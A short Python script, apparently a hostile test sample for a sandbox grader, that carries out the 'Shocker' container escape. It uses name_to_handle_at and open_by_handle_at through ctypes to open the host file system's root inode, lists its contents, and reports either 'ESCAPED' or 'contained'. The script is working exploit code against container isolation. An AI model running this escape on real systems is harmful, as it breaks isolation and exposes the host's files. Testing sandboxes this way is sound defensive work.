# The Shocker attack: a handle names any inode of a file system; open_by_handle_at opens it
# whatever the view shows. From a handle of a file the view has (/etc/hostname), walk to the
# file system's root inode (2) and open it: the machine's disk.
import ctypes, os, struct, sys

libc = ctypes.CDLL(None, use_errno=True)
SYS_NAME_TO_HANDLE = {"x86_64": 303, "aarch64": 264}[os.uname().machine]
SYS_OPEN_BY_HANDLE = {"x86_64": 304, "aarch64": 265}[os.uname().machine]
handle = ctypes.create_string_buffer(struct.pack("II", 128, 0) + b"\0" * 128)
mount_id = ctypes.c_int()
named = libc.syscall(SYS_NAME_TO_HANDLE, -100, b"/usr", handle, ctypes.byref(mount_id), 0)
root = ctypes.create_string_buffer(struct.pack("IIII", 8, 1, 2, 0))  # ext4: inode 2, generation 0
mount = os.open("/usr", os.O_RDONLY)
fd = libc.syscall(SYS_OPEN_BY_HANDLE, mount, root, os.O_RDONLY | os.O_DIRECTORY)
error = ctypes.get_errno()
if fd >= 0:
    print("ESCAPED: the disk's root holds", sorted(os.listdir(fd))[:8], file=sys.stderr)
    open("/tmp/netgrader-hostile-opened-the-disk", "w").write("x")
else:
    print(f"contained: open_by_handle_at refused ({os.strerror(error)})", file=sys.stderr)
sys.exit(1)
